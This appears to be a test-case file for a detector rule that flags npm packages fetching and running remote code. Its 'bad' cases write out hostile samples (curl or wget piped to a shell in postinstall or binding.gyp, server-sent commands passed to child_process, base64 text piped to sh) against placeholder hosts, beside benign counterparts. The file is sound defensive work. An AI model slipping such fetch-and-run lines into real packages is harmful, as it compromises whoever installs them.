import { defineCases } from '../../src/rule.ts';

export default defineCases({
  bad: [
    {
      name: 'curl into a shell at postinstall',
      manifest: { scripts: { postinstall: 'curl -fsSL https://payload.example/x.sh | bash' } },
      code: '',
    },
    {
      name: 'the same from code, when loaded',
      code: "const { exec } = require('child_process');\nexec('wget -qO- https://payload.example/x | sh')",
    },
    {
      name: 'a command that a server sends',
      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.exec(order))",
    },
    {
      name: 'an interpreter that is fixed, with a script that is not',
      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.spawn('/bin/sh', ['-c', order]))",
    },
    {
      name: 'a program in a folder that is fixed',
      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.spawn(`/tmp/${order}`))",
    },
    {
      name: 'an order behind a harmless command',
      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.exec(`cd /tmp && ${order}`))",
    },
    { name: 'a base64 text into a shell', code: "require('child_process').execSync('echo dHJ1ZQ== | base64 -d | sh')" },
    {
      name: 'in a binding.gyp',
      files: {
        'binding.gyp': '{"targets":[{"sources":["<!(bash <(curl -s https://payload.example/x))"]}]}',
        'index.js': '',
      },
    },
  ],
  ok: [
    {
      name: 'a native addon’s prebuilt binary',
      manifest: { scripts: { install: 'prebuild-install || node-gyp rebuild' } },
      code: '',
    },
    {
      name: 'how to install something else, as text',
      code: "console.log('Install with: curl -fsSL https://get.example/install.sh | sh')",
    },
    {
      name: 'a page to open, where a login service says which',
      code: "const cp = require('child_process');\nfetch('https://login.example/device', { method: 'POST' }).then((r) => r.json()).then(({ url }) => {\n  if (process.platform === 'darwin') cp.exec(`open ${JSON.stringify(url)}`);\n  else if (process.platform === 'win32') cp.exec(`cmd.exe /c start \"\" ${JSON.stringify(url)}`);\n  else cp.spawn('xdg-open', [url]);\n})",
    },
    {
      name: 'a download that is shown',
      code: "const { execSync } = require('child_process');\nexports.get = (url) => execSync('curl -s ' + JSON.stringify(url)).toString()",
    },
    {
      name: 'a remote list that is printed, a local command that runs',
      code: "const cp = require('child_process');\nexports.main = async () => { const list = await fetch('https://api.example/list').then((r) => r.json()); cp.execFile('git', ['status']); return list }",
    },
  ],
});
